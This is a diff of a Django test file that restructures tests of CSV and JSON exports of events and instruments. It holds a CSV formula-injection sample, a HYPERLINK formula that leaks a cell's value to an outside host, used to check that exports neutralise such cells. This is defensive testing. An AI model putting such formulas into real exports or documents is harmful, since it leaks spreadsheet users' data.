@@ -18,7 +18,7 @@ from events.models import DatePrecision, EventFormat, Role
 from instruments.exports import InstrumentExportView
 from instruments.models import Access, InstrumentKind
 from publishing.models import PublicationStatus
-from tests.factories import make_article, make_body, make_event, make_instrument, make_series, make_topic
+from tests.factories import built_once, make_article, make_body, make_event, make_instrument, make_series, make_topic
 
 pytestmark = pytest.mark.django_db
 
@@ -71,8 +71,7 @@ def listed_slugs(client, url, params):
         page += 1
 
 
-@pytest.fixture
-def unodc():
+def build_unodc():
     """UNODC with a subsidiary body, 25 events of 2019 that they convened, and decoys around them."""
     unodc = make_body("United Nations Office on Drugs and Crime", short_name="UNODC", slug="unodc")
     irg = make_body("Implementation Review Group", short_name="IRG", slug="irg", parent=unodc)
@@ -88,13 +87,33 @@ def unodc():
     return unodc
 
 
-def test_the_events_files_hold_every_page_of_the_filtered_list_in_its_order(client, unodc):
-    filters = {"year": "2019", "body": "unodc"}
-    shown = listed_slugs(client, "/en/events/", filters)
+unodc = built_once(build_unodc, scope="class")
 
-    assert len(shown) == 25
-    assert [row["slug"] for row in csv_rows(client, "/en/events/export.csv", filters)] == shown
-    assert [record["slug"] for record in json_records(client, "/en/events/export.json", filters)] == shown
+
+class TestUnodcEvents:
+    """On the events of `build_unodc`, built once for the class: its tests only read them."""
+
+    def test_the_events_files_hold_every_page_of_the_filtered_list_in_its_order(self, client, unodc):
+        filters = {"year": "2019", "body": "unodc"}
+        shown = listed_slugs(client, "/en/events/", filters)
+
+        assert len(shown) == 25
+        assert [row["slug"] for row in csv_rows(client, "/en/events/export.csv", filters)] == shown
+        assert [record["slug"] for record in json_records(client, "/en/events/export.json", filters)] == shown
+
+    def test_an_unfiltered_file_holds_every_published_record(self, client, unodc):
+        rows = csv_rows(client, "/en/events/export.csv")
+
+        assert len(rows) == 27
+        assert not [row for row in rows if row["slug"].startswith("hidden")]
+
+    def test_the_lists_offer_the_download_of_exactly_what_they_show(self, client, unodc):
+        response = client.get("/en/events/", {"year": "2019", "body": "unodc", "country": "", "page": "2"})
+
+        assertContains(response, "Download these 25 events as")
+        assertContains(response, 'href="/en/events/export.csv?body=unodc&amp;year=2019"')
+        assertContains(response, 'href="/en/events/export.json?body=unodc&amp;year=2019"')
+        assert len(csv_rows(client, "/en/events/export.csv?year=2019&body=unodc")) == 25
 
 
 def test_the_instruments_files_hold_every_page_of_the_filtered_list_in_its_order(client):
@@ -111,13 +130,6 @@ def test_the_instruments_files_hold_every_page_of_the_filtered_list_in_its_order
     assert len(shown) == 23
     assert [row["slug"] for row in csv_rows(client, "/en/instruments/export.csv", filters)] == shown
     assert [record["slug"] for record in json_records(client, "/en/instruments/export.json", filters)] == shown
-
-
-def test_an_unfiltered_file_holds_every_published_record(client, unodc):
-    rows = csv_rows(client, "/en/events/export.csv")
-
-    assert len(rows) == 27
-    assert not [row for row in rows if row["slug"].startswith("hidden")]
 
 
 def test_records_that_are_not_public_are_never_exported(client):
@@ -178,32 +190,32 @@ def test_an_export_that_matches_nothing_is_an_empty_file_with_its_columns(client
     assert body == BOM + EVENT_COLUMNS.encode() + b"\r\n"
 
 
-@pytest.mark.parametrize(
-    ("url", "params", "filename"),
-    [
-        ("/en/events/export.csv", {}, "wco-integrity-events.csv"),
-        (
-            "/en/events/export.csv",
-            {"year": "2019", "body": "unodc", "page": "2"},
-            "wco-integrity-events-2019-unodc.csv",
-        ),
-        (
-            "/en/events/export.json",
-            {"body": "unodc", "year": "2019", "topic": ""},
-            "wco-integrity-events-2019-unodc.json",
-        ),
-        ("/en/events/export.csv", {"article": "5", "country": "AT"}, "wco-integrity-events-at-article-5.csv"),
-        ("/fr/events/export.csv", {"year": "2019"}, "wco-integrity-events-2019-fr.csv"),
-        ("/en/instruments/export.json", {"kind": "e_learning"}, "wco-integrity-instruments-e-learning.json"),
-    ],
-)
-def test_the_file_name_says_what_it_holds(client, url, params, filename):
+FILE_NAMES = [
+    ("/en/events/export.csv", {}, "wco-integrity-events.csv"),
+    (
+        "/en/events/export.csv",
+        {"year": "2019", "body": "unodc", "page": "2"},
+        "wco-integrity-events-2019-unodc.csv",
+    ),
+    (
+        "/en/events/export.json",
+        {"body": "unodc", "year": "2019", "topic": ""},
+        "wco-integrity-events-2019-unodc.json",
+    ),
+    ("/en/events/export.csv", {"article": "5", "country": "AT"}, "wco-integrity-events-at-article-5.csv"),
+    ("/fr/events/export.csv", {"year": "2019"}, "wco-integrity-events-2019-fr.csv"),
+    ("/en/instruments/export.json", {"kind": "e_learning"}, "wco-integrity-instruments-e-learning.json"),
+]
+
+
+def test_the_file_name_says_what_it_holds(client):
     unodc = make_body(slug="unodc")
     make_event(start="2019-05-27", bodies=[unodc], country="AT", uncac_articles=[make_article(5)])
 
-    response, _body = download(client, url, params)
-
-    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
+    for url, params, filename in FILE_NAMES:
+        response, _body = download(client, url, params)
+        disposition = response["Content-Disposition"]
+        assert disposition == f'attachment; filename="{filename}"', f"{url} {params}: {disposition}"
 
 
 def test_search_engines_are_kept_to_the_lists(client):
@@ -327,23 +339,27 @@ def test_an_instrument_row_has_its_page_and_its_own_address(client):
 FORMULAS = ['=HYPERLINK("https://example.com/?leak="&A1,"Click")', "-2+3", "@SUM(1)", "+1", "\tTAB", "\rCR"]
 
 
-def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(client):
+def build_formulas():
     for number, title in enumerate(FORMULAS):
         make_event(title, slug=f"formula-{number}", start=f"2019-05-{number + 1:02}", city="=1+1", summary="@me")
 
-    rows = csv_rows(client, "/en/events/export.csv")
 
-    assert sorted(row["title"] for row in rows) == sorted(f"'{title}" for title in FORMULAS)
-    assert {(row["city"], row["summary"]) for row in rows} == {("'=1+1", "'@me")}
+formulas = built_once(build_formulas, scope="class")
 
 
-def test_json_values_are_left_as_they_are(client):
-    for number, title in enumerate(FORMULAS):
-        make_event(title, slug=f"formula-{number}", start=f"2019-05-{number + 1:02}")
+class TestFormulas:
+    """On events whose titles, cities and summaries start as formulas, built once for the class."""
 
-    records = json_records(client, "/en/events/export.json")
+    def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(self, client, formulas):
+        rows = csv_rows(client, "/en/events/export.csv")
 
-    assert sorted(record["title"] for record in records) == sorted(FORMULAS)
+        assert sorted(row["title"] for row in rows) == sorted(f"'{title}" for title in FORMULAS)
+        assert {(row["city"], row["summary"]) for row in rows} == {("'=1+1", "'@me")}
+
+    def test_json_values_are_left_as_they_are(self, client, formulas):
+        records = json_records(client, "/en/events/export.json")
+
+        assert sorted(record["title"] for record in records) == sorted(FORMULAS)
 
 
 def test_no_ordinary_value_is_altered_in_csv(client):
@@ -378,32 +394,32 @@ def test_no_ordinary_value_is_altered_in_csv(client):
         assert not [value for row in rows for value in row.values() if value.startswith("'")]
 
 
-@pytest.mark.parametrize("kind", ["events", "instruments"])
-@pytest.mark.parametrize(
-    ("query", "field"),
-    [
-        ("year=abc", "year"),
-        ("year=2019&year=20200", "year"),
-        ("q=a&q=b", "q"),
-        ("body=no-such-body", "body"),
-        ("topic=%00", "topic"),
-        ("article=9999", "article"),
-    ],
-)
-def test_invalid_filters_export_nothing_and_say_why(client, kind, query, field):
+INVALID_FILTERS = [
+    ("year=abc", "year"),
+    ("year=2019&year=20200", "year"),
+    ("q=a&q=b", "q"),
+    ("body=no-such-body", "body"),
+    ("topic=%00", "topic"),
+    ("article=9999", "article"),
+]
+
+
+def test_invalid_filters_export_nothing_and_say_why(client):
     make_event(start="2019-05-27", topics=[make_topic()])
     make_instrument(year_adopted=2019)
 
-    as_csv = client.get(f"/en/{kind}/export.csv?{query}")
-    as_json = client.get(f"/en/{kind}/export.json?{query}")
+    for kind, (query, field) in itertools.product(["events", "instruments"], INVALID_FILTERS):
+        case = f"{kind}?{query}"
+        as_csv = client.get(f"/en/{kind}/export.csv?{query}")
+        as_json = client.get(f"/en/{kind}/export.json?{query}")
 
-    assert as_csv.status_code == as_json.status_code == 400
-    assert as_csv["Content-Type"] == "text/plain; charset=utf-8"
-    assert "Content-Disposition" not in as_csv and "Content-Disposition" not in as_json
-    assert "not valid" in as_csv.content.decode()
-    assert f"\n{field}: " in as_csv.content.decode()
-    assert as_json["Content-Type"] == "application/json"
-    assert list(json.loads(as_json.content)["filters"]) == [field]
+        assert as_csv.status_code == as_json.status_code == 400, case
+        assert as_csv["Content-Type"] == "text/plain; charset=utf-8", case
+        assert "Content-Disposition" not in as_csv and "Content-Disposition" not in as_json, case
+        assert "not valid" in as_csv.content.decode(), case
+        assert f"\n{field}: " in as_csv.content.decode(), case
+        assert as_json["Content-Type"] == "application/json", case
+        assert list(json.loads(as_json.content)["filters"]) == [field], case
 
 
 def test_parameters_that_are_not_filters_are_ignored_as_on_the_list(client):
@@ -449,15 +465,6 @@ def test_the_french_file_has_french_texts_and_english_columns(client):
     assert (instrument["title"], instrument["kind"]) == ("Déclaration d'Arusha révisée", "Déclaration")
 
 
-def test_the_lists_offer_the_download_of_exactly_what_they_show(client, unodc):
-    response = client.get("/en/events/", {"year": "2019", "body": "unodc", "country": "", "page": "2"})
-
-    assertContains(response, "Download these 25 events as")
-    assertContains(response, 'href="/en/events/export.csv?body=unodc&amp;year=2019"')
-    assertContains(response, 'href="/en/events/export.json?body=unodc&amp;year=2019"')
-    assert len(csv_rows(client, "/en/events/export.csv?year=2019&body=unodc")) == 25
-
-
 def test_an_unfiltered_list_links_to_the_whole_file(client):
     make_instrument("Revised Arusha Declaration")
 
@@ -473,14 +480,14 @@ def test_a_single_result_is_offered_as_one_record(client):
     assertContains(client.get("/en/instruments/", {"year": "2003"}), "Download this instrument as")
 
 
-@pytest.mark.parametrize("query", ["year=abc", "year=1990"])
-def test_no_download_is_offered_without_results(client, query):
+def test_no_download_is_offered_without_results(client):
     make_event(start="2019-05-27")
 
-    response = client.get(f"/en/events/?{query}")
+    for query in ["year=abc", "year=1990"]:
+        response = client.get(f"/en/events/?{query}")
 
-    assertNotContains(response, "export.csv", status_code=response.status_code)
-    assertNotContains(response, "Download", status_code=response.status_code)
+        assertNotContains(response, "export.csv", status_code=response.status_code, msg_prefix=query)
+        assertNotContains(response, "Download", status_code=response.status_code, msg_prefix=query)
 
 
 class Growing:
@@ -547,16 +554,17 @@ def test_queries_do_not_grow_with_the_records_exported(client):
     assert large == small
 
 
-@pytest.mark.parametrize("view", [EventExportView, InstrumentExportView])
-def test_queries_grow_with_the_chunks_read_not_with_the_records(client, monkeypatch, view):
-    monkeypatch.setattr(view, "chunk_size", 2)
-    url = "/en/events/export.csv" if view is EventExportView else "/en/instruments/export.json?year=2019"
+def test_queries_grow_with_the_chunks_read_not_with_the_records(client, monkeypatch):
+    urls = {EventExportView: "/en/events/export.csv", InstrumentExportView: "/en/instruments/export.json?year=2019"}
+    for view in urls:
+        monkeypatch.setattr(view, "chunk_size", 2)
     catalogue = Growing()
-    counts = []
+    counts = {view: [] for view in urls}
     for size in [1, 2, 3, 4, 5]:
         catalogue.grow_to(size)
-        counts.append(count_queries(client, url))
+        for view, url in urls.items():
+            counts[view].append(count_queries(client, url))
 
-    one_chunk, two_chunks, three_chunks = counts[0], counts[2], counts[4]
-    assert counts == [one_chunk, one_chunk, two_chunks, two_chunks, three_chunks]
-    assert three_chunks - two_chunks == two_chunks - one_chunk > 0
+    for view, (one_chunk, _, two_chunks, _, three_chunks) in counts.items():
+        assert counts[view] == [one_chunk, one_chunk, two_chunks, two_chunks, three_chunks], view.__name__
+        assert three_chunks - two_chunks == two_chunks - one_chunk > 0, view.__name__
